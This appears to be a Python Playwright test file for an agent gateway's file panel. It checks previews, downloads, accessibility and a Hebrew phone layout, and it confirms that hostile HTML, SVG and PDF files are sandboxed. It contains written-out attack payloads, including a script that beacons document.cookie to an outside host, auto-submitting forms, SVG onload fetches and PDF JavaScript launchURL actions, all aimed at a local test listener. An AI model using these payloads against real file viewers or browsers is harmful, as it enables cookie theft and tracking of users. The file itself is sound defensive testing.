"""The panel of files, and previews of what a hostile agent wrote, in a real Chromium."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import pathlib
import warnings
from collections.abc import AsyncIterator
from typing import Any, Final

import pytest
from playwright.async_api import Browser, Page, expect

from tests.browser.conftest import OpenPage
from tests.chromium import PACKAGED
from tests.inside import GatewayInside
from tests.shared import SHARED, eventually, shared_gateway

pytestmark = [SHARED, pytest.mark.browser]

WRITES: Final = """
import os, pathlib
os.makedirs("src/deep")
pathlib.Path("src/app.py").write_text("def main():\\n    return 1\\n")
pathlib.Path("src/deep/x.txt").write_text("deep")
pathlib.Path("table.csv").write_text('name,"a, b"\\nmilk,3\\n')
pathlib.Path("read.md").write_text("# Read me\\n\\nBold **words**.\\n")
pathlib.Path("page.html").write_text("<h1>Hello page</h1>")
pathlib.Path("pic.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')
pathlib.Path("done").write_text("")
"""
SAYS: Final = "I wrote `src/app.py` and `nowhere.py`."
AGENT: Final = {"turns": [[{"spawn": ["python3", "-c", WRITES]}, {"say": SAYS}]], "repeat": True}
gateway = shared_gateway(agents={"writer": AGENT})


async def _session(gateway: GatewayInside, name: str) -> pathlib.Path:
    """A session whose agent has written; its working directory."""
    await gateway.post("/api/sessions", {"session_id": name, "agent": "writer"}, status=201)
    await gateway.chat(name, "go")
    session = gateway.inner.manager.get("default/local", name)
    assert session is not None
    root = pathlib.Path(gateway.inner.services.workers.workspaces.work(session.record.key))

    async def is_written() -> bool:
        return (root / "done").exists()

    await eventually(is_written)
    return root


async def test_the_panel_shows_opens_and_downloads_files(gateway: GatewayInside, open_page: OpenPage) -> None:
    root = await _session(gateway, "files")
    page = await open_page(f"{gateway.url}/#s=files", width=1300)
    named = page.locator(".md code[data-file]")
    await expect(named).to_have_text("src/app.py")
    await named.focus()
    await page.keyboard.press("Enter")
    view = page.get_by_test_id("file-view")
    await expect(view).to_contain_text("def main():")
    async with page.expect_download() as download:
        await page.get_by_test_id("download-file").click()
    assert (
        pathlib.Path(await (await download.value).path()).read_bytes() == (root / "src/app.py").read_bytes()
    )
    (root / "src/app.py").write_text("def other(): pass\n")
    await expect(view).to_contain_text("def other()")
    await page.get_by_test_id("file-back").click()
    rows = page.get_by_test_id("file-row")
    await expect(rows.first).to_have_attribute("aria-expanded", "true")
    await expect(rows.filter(has_text="app.py")).to_have_count(1)
    await rows.first.focus()
    await page.keyboard.press("ArrowLeft")
    await expect(rows.filter(has_text="app.py")).to_have_count(0)
    await page.keyboard.press("ArrowRight")
    await page.keyboard.press("ArrowDown")
    await page.keyboard.press("ArrowRight")
    await expect(rows.filter(has_text="x.txt")).to_have_count(1)
    (root / "new.txt").write_text("new")
    await expect(rows.filter(has_text="new.txt")).to_have_count(1)
    await rows.filter(has_text="table.csv").click()
    await expect(page.get_by_test_id("file-table")).to_contain_text("a, b")
    await page.keyboard.press("Escape")
    await rows.filter(has_text="read.md").click()
    await expect(view.locator("h1, h2, h3").filter(has_text="Read me")).to_have_count(1)
    await page.keyboard.press("Escape")
    await rows.filter(has_text="page.html").click()
    frame = page.frame_locator("[data-testid=file-frame]")
    await expect(frame.locator("h1")).to_have_text("Hello page")
    await page.keyboard.press("Escape")
    await page.keyboard.press("Escape")
    await expect(page.get_by_test_id("files")).to_have_count(0)


async def test_the_panel_on_a_phone_in_hebrew(gateway: GatewayInside, open_page: OpenPage) -> None:
    await _session(gateway, "phone")
    page = await open_page(f"{gateway.url}/#s=phone", width=360, height=740, locale="he-IL")
    await page.get_by_test_id("open-files").click()
    panel = page.get_by_test_id("files")
    await expect(panel.get_by_test_id("file-row")).to_have_count(6)
    box = await panel.bounding_box()
    assert box is not None
    assert (box["x"], box["width"]) == (0, 360)
    assert await page.evaluate("document.documentElement.scrollWidth") <= 360
    await _is_accessible(page)
    await page.get_by_test_id("files-tab-changes").click()
    await expect(page.get_by_test_id("no-changes")).to_be_visible()
    await page.get_by_test_id("close-files").click()
    await expect(panel).to_have_count(0)


async def _is_accessible(page: Page) -> None:
    source = PACKAGED / "node_modules" / "axe-core" / "axe.min.js"
    if not source.exists():
        words = "axe is NOT run: missing `npm ci` in tests/browser"
        assert os.environ.get("CI") is None, words
        warnings.warn(words, stacklevel=2)
        return
    await page.evaluate(source.read_text())
    found = await page.evaluate(
        "axe.run('.files', {resultTypes: ['violations']}).then((r) => r.violations.map((v) => v.id))"
    )
    assert found == []


HOSTILE: Final = """
<link rel="stylesheet" href="{out}/css"><link rel="preload" as="image" href="{out}/preload">
<link rel="prefetch" href="{out}/prefetch"><link rel="preconnect" href="{out}">
<link rel="dns-prefetch" href="{out}"><meta http-equiv="refresh" content="0;url={out}/refresh">
<base href="{out}/"><style>@import url("{out}/import"); body {{ background: url("{out}/background") }}
@font-face {{ font-family: f; src: url("{out}/font") }} body {{ font-family: f }}</style>
<script src="{out}/script.js"></script><script>document.title = "HACKED"; fetch("{out}/fetch");
new Image().src = "{out}/beacon?" + document.cookie; top.location = "{out}/top"</script>
<img src="{out}/img" onerror="document.title='HACKED'"><img srcset="{out}/srcset 1x">
<video src="{out}/video" autoplay></video><iframe src="{out}/frame"></iframe>
<object data="{out}/object"></object><embed src="{out}/embed">
<form action="{out}/form" id="f"><button autofocus onfocus="f.submit()">x</button></form>
<iframe srcdoc="<script>top.document.title='HACKED'</script>"></iframe>
<iframe srcdoc='&lt;link rel="preconnect" href="{out}"&gt;'></iframe><LINK rel=preconnect href={out}>
<svg onload="document.title='HACKED'"></svg><h1 id="here">here</h1>
"""
SVG: Final = """<!DOCTYPE svg [<!ENTITY hidden
'&#60;link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="{out}"/>'>]>
<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('{out}/svg')">
<style>@import url("{out}/svgcss");</style>
<script>fetch("{out}/svgscript"); document.title = "HACKED"</script>
<image href="{out}/svgimage" width="9" height="9"/><use href="{out}/use#x"/><foreignObject>
<img xmlns="http://www.w3.org/1999/xhtml" src="{out}/foreign"/></foreignObject>&hidden;</svg>"""
PDF: Final = """%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("{out}/pdfjs"))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI({out}/pdfuri)>>>>>>endobj
trailer<</Root 1 0 R>>
"""


def _pdf(*pages: str, catalog: str = "", annotations: str = "") -> bytes:
    """A PDF with a page for each box, black in its lower half, and with whatever else."""
    stream = "0 0 50 50 re f"
    numbers = [3 + 2 * place for place in range(len(pages))]
    kids = " ".join(f"{number} 0 R" for number in numbers)
    objects = [f"<</Type/Catalog/Pages 2 0 R{catalog}>>", f"<</Type/Pages/Kids[{kids}]/Count {len(pages)}>>"]
    for number, box in zip(numbers, pages, strict=True):
        page = f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents {number + 1} 0 R{annotations}>>"
        objects += [page, f"<</Length {len(stream)}>>stream\n{stream}\nendstream"]
    text, offsets = "%PDF-1.4\n", []
    for place, one in enumerate(objects, 1):
        offsets.append(len(text))
        text += f"{place} 0 obj\n{one}\nendobj\n"
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    head = f"xref\n0 {len(offsets) + 1}\n0000000000 65535 f \n{table}trailer\n"
    trailer = f"<</Size {len(offsets) + 1}/Root 1 0 R>>\nstartxref\n{len(text)}\n%%EOF\n"
    return (text + head + trailer).encode()


async def test_a_pdf_is_drawn_and_a_hostile_one_does_nothing(
    gateway: GatewayInside, browser: Browser
) -> None:
    root = await _session(gateway, "pdf")
    async with _outside() as (out, heard):
        script = f"<</S/JavaScript/JS(app.launchURL('{out}/js', true); this.submitForm('{out}/form'))>>"
        link = f"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI({out}/link)>>>>"
        widget = f"<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/Rect[0 0 9 9]/AA<</F {script}/K {script}>>>>"
        fetched = f"<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/GoToR/F<</FS/URL/F({out}/remote)>>>>>>"
        files = {
            "evil.pdf": _pdf(
                "0 0 100 100",
                "0 0 200 100",
                catalog=f"/OpenAction {script}/Names<</JavaScript<</Names[(a) {script}]>>>>",
                annotations=f"/Annots[{link}{widget}{fetched}]/AA<</O {script}>>",
            ),
            "huge.pdf": _pdf("0 0 9999999 9999999", *["0 0 50 50"] * 30),
            "broken.pdf": b"%PDF-1.4\n" + os.urandom(5_000),
        }
        for name, data in files.items():
            (root / name).write_bytes(data)
        context = await browser.new_context()
        page = await context.new_page()
        await page.goto(f"{gateway.url}/#s=pdf")
        await page.get_by_test_id("open-files").click()
        for name, count in (("evil.pdf", 2), ("huge.pdf", 20)):
            await page.get_by_test_id("file-row").filter(has_text=name).click()
            shown = page.get_by_test_id("pdf-frame")
            await expect(shown).to_have_attribute("data-pages", str(count), timeout=60_000)
            if name == "evil.pdf":
                await _is_accessible(page)
                frame = page.frames[-1]
                corners = await frame.evaluate(CORNERS)
                assert corners == [[255, 255, 255], [0, 0, 0]]
                assert await frame.evaluate("self.origin") == "null"
                for way in (f"fetch('{out}/a')", "fetch('/api/sessions')", f"import('{out}/b')"):
                    with pytest.raises(Exception, match=r"Failed|Refused|Policy|policy|blocked"):
                        await frame.evaluate(f"(async () => {{ await {way} }})()")
                await shown.click(position={"x": 50, "y": 50})
            if name == "huge.pdf":
                await expect(page.get_by_test_id("file-view")).to_contain_text("20 of 31 pages")
            await page.get_by_test_id("file-back").click()
        await page.get_by_test_id("file-row").filter(has_text="broken.pdf").click()
        await expect(page.get_by_test_id("file-view")).to_contain_text("no preview", timeout=30_000)
        await context.close()
        assert heard == []


CORNERS: Final = """() => {
  const canvas = document.querySelector("canvas"), pen = canvas.getContext("2d");
  const of = (x, y) => pen.getImageData(canvas.width * x, canvas.height * y, 1, 1).data;
  const at = (x, y) => Array.from(of(x, y)).slice(0, 3);
  return [at(0.9, 0.1), at(0.1, 0.9)];
}"""


@contextlib.asynccontextmanager
async def _outside() -> AsyncIterator[tuple[str, list[bytes]]]:
    """A host that must never hear of a preview, and what it heard."""
    heard: list[bytes] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(b"connected")
        with contextlib.suppress(OSError):
            heard.append(await reader.readline())
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", heard


async def test_hostile_files_do_nothing_in_a_preview(gateway: GatewayInside, browser: Browser) -> None:
    """In the panel and as a page of their own: no script runs, and no host hears of it."""
    root = await _session(gateway, "hostile")
    async with _outside() as (out, heard):
        texts = {"evil.html": HOSTILE, "evil.svg": SVG, "evil.pdf": PDF}
        for name, text in texts.items():
            (root / name).write_text(text.format(out=out))
        context = await browser.new_context()
        page = await context.new_page()
        await page.goto(f"{gateway.url}/#s=hostile")
        await page.get_by_test_id("open-files").click()
        for name in ("evil.html", "evil.svg"):
            await page.get_by_test_id("file-row").filter(has_text=name).click()
            await _drawn(page, name)
            await page.get_by_test_id("file-back").click()
        assert "HACKED" not in await page.title()
        for name in texts:
            link = await gateway.post("/api/sessions/hostile/files/link", {"path": name}, status=201)
            alone = await context.new_page()
            with contextlib.suppress(Exception):  # a PDF is kept by a browser without a viewer
                await alone.goto(gateway.url + link["url"])
            assert "HACKED" not in await alone.title()
            if name == "evil.html":
                assert await alone.evaluate("self.origin") == "null"
                with pytest.raises(Exception, match=r"sandboxed|SecurityError|cookie"):
                    await alone.evaluate("document.cookie")
        await context.close()
        assert heard == []


async def _drawn(page: Page, name: str) -> None:
    if name.endswith("html"):
        await expect(page.frame_locator("[data-testid=file-frame]").locator("#here")).to_have_count(1)
        return
    picture: Any = page.get_by_test_id("file-picture")
    await expect(picture).to_be_visible()
    assert json.dumps(await picture.evaluate("(one) => one.decode().then(() => one.naturalWidth)"))
